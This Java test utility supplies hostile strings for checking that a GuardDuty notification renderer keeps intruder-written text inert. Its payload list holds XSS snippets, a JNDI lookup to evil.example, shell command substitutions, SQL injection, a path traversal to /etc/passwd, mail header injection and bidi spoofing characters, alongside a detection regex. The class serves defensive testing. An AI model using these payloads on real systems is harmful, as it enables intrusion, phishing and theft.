package io.github.guarddutynotify.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.guarddutynotify.json.JsonSyntaxException;
import io.github.guarddutynotify.json.JsonValue;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.regex.Pattern;

/**
 * What an intruder may write into a finding, and how to see that none of it came alive.
 *
 * <p>All of it points at the host {@value #HOST} or at {@value #ADDRESS} and calls itself {@value #MARK}, so that a test
 * can search a rendered message for it.
 */
public final class HostileText {
    /** The host of every hostile link; no such name is ever given out. */
    public static final String HOST = "evil.example";

    /** The address of the hostile links that have no name; kept for documents. */
    public static final String ADDRESS = "203.0.113.66";

    /** A word, letters only, that every hostile value begins with. */
    public static final String MARK = "Hostile";

    private static final Pattern LIVE_SCHEME = Pattern.compile(
            "\\b(?:https?|ftp|file|ssh)://\\S*(?:evil|203\\.0\\.113)|\\b(?:javascript|vbscript|data|mailto|tel):\\w",
            Pattern.CASE_INSENSITIVE);

    /** One for each way to attack; each finding of {@link Findings#hostile()} spreads them over its fields differently. */
    static final List<String> ATTACKS = List.of(
            // mentions of Slack and Google Chat, and those that other chats know by their name alone
            "<!channel> <!here|here> <!everyone> <@U012AB3CD> <#C012AB3CD|soc> <!subteam^S012AB3CD> <!date^0^{date}|x>",
            "<users/all> <users/1234567890> @channel @here @everyone @all :skull: :rotating_light:",
            // links in the mark-up of chats, Markdown and HTML; bare ones; other schemes
            "<https://evil.example/slack|console.aws.amazon.com> [sign in](https://evil.example/md) ![](http://evil.example/p.png)",
            "<a href=\"https://evil.example/a\">sign in</a><img src=x onerror=alert(1)><script>alert(1)</script><b>x</b>",
            "https://evil.example/bare www.evil.example evil.example/path http://203.0.113.66/ evil.example:8443 x@evil.example",
            "javascript:alert(1) data:text/html,<b>x mailto:victim@evil.example tel:+1900 HTTPS://EVIL.EXAMPLE/ evil\u3002example",
            // formatting, and what ends it
            "*bold* _italic_ ~struck~ `code` ```fence``` > quote\n> quote\n# heading\n- item\n1. item\n--- | a | b |",
            "&lt;!channel&gt; &amp;lt;b&amp;gt; &#60;b&#62; &nbsp; %3Cscript%3E \\u003cb\\u003e ${jndi:ldap://evil.example/x} {{7*7}}",
            // what breaks out of JSON, HTML, comments, formulas and shells
            "\"}],\"text\":\"<!channel>\",\"blocks\":[{\"x\":\"\\\" ' </textarea></title>--> ]]> $(id) `id` ;id\\",
            "=HYPERLINK(\"https://evil.example/\",\"x\") +1 -1 @SUM(1) ' OR '1'='1 ../../etc/passwd \\\\evil.example\\share",
            // headers and commands of mail and HTTP
            "x\r\nBcc: victim@evil.example\r\nContent-Type: text/html\r\n\r\n<b>body</b>\r\n.\r\nMAIL FROM:<a@evil.example>\r\n",
            "x\nSubject: forged\n\rX-Forged: yes\u2028Bcc: y\u2029z\u0085Cc: victim@evil.example %0d%0aBcc:%20x =?utf-8?q?=0D=0ABcc?=",
            // what turns text round, hides in it or drives a terminal
            "\u202Egnp.exe\u202C \u2066a\u2069 \u200Fb\u200E e\u200Bvil\u200D.exam\u00ADple \uFEFF\u2060\u3164 \uDB40\uDC41\uDB40\uDC42",
            "\u001B[31mred\u001B[0m \u001B]8;;https://evil.example/\u0007x\u001B]8;;\u0007 \u0000nul\u0008\u007F\u009B2J\tb",
            // half characters and none at all
            "\uD800 \uDC00 \uDBFF\uDBFF x\uFFFE \uFFFF \uFDD0 \uD83D",
            // long, with characters of two units and marks that pile up
            "\uD835\uDD38".repeat(3000),
            "e\u0301\u0323".repeat(40) + "a" + "\u0300".repeat(500) + " " + "\uD83D\uDC69\uD83C\uDFFE".repeat(200),
            "A".repeat(5000) + "&<>\"'".repeat(1000));

    private HostileText() {}

    /**
     * Hostile texts of many kinds, for a pure renderer: mentions, mark-up of every medium, links, schemes, HTML, entities,
     * encodings, injected headers, what breaks out of JSON and shells, direction marks, zero-width and look-alike
     * characters, terminal codes, halves of characters, marks that pile up, odd names, and texts of 100,000 characters. The
     * short ones stand in {@code hostile-texts.json} beside this class.
     *
     * @return more than four hundred texts; they do not begin with {@link #MARK}
     */
    public static List<String> corpus() {
        return Corpus.TEXTS;
    }

    /** Read when first asked for. */
    private static final class Corpus {
        static final List<String> TEXTS = texts();

        private static List<String> texts() {
            List<String> texts = new ArrayList<>();
            try (InputStream in = Objects.requireNonNull(HostileText.class.getResourceAsStream("hostile-texts.json"))) {
                JsonValue kinds = JsonValue.parse(in.readAllBytes());
                kinds.all("/*/*").forEach(text -> texts.add(text.text().orElseThrow()));
            } catch (IOException | JsonSyntaxException unreadable) {
                throw new IllegalStateException("can't read the hostile texts", unreadable);
            }
            for (String piece : List.of(
                    "A",
                    "\uD835\uDD38",
                    "&",
                    "<!channel>",
                    "e\u0301",
                    "\u0301",
                    "a.bb ",
                    "a\n",
                    "*_~`",
                    "\uD83D\uDC68\u200D")) {
                texts.add(piece.repeat(100_000 / piece.length()));
            }
            return List.copyOf(texts);
        }
    }

    /**
     * Asserts that a text shows nothing hostile alive, whatever the medium: no link, no mention by name, no character
     * that hides, turns round or controls, no half of one.
     *
     * @param shown the text as its reader gets it, after the medium has taken its mark-up and escapes away
     */
    public static void assertInert(String shown) {
        assertThat(shown.toLowerCase(Locale.ROOT))
                .as("a link that auto-linking makes live")
                .doesNotContain(HOST, "evil\u3002example");
        assertThat(LIVE_SCHEME.matcher(shown).results().map(match -> match.group()))
                .as("live schemes")
                .isEmpty();
        assertThat(shown.codePoints().filter(HostileText::isForbidden).mapToObj(c -> String.format("U+%04X", c)))
                .as("characters that hide, turn round, control or are none")
                .isEmpty();
    }

    /** What a text never needs; of the control characters a line end and a tab are let through. */
    private static boolean isForbidden(int codePoint) {
        int type = Character.getType(codePoint);
        boolean isControl = type == Character.CONTROL && codePoint != '\n' && codePoint != '\r' && codePoint != '\t';
        boolean isNoCharacter = type == Character.SURROGATE
                || (codePoint & 0xFFFE) == 0xFFFE
                || (codePoint >= 0xFDD0 && codePoint <= 0xFDEF);
        return isControl
                || isNoCharacter
                || type == Character.FORMAT
                || codePoint == 0x3164 // Hangul filler: a letter without ink
                || type == Character.LINE_SEPARATOR
                || type == Character.PARAGRAPH_SEPARATOR;
    }
}
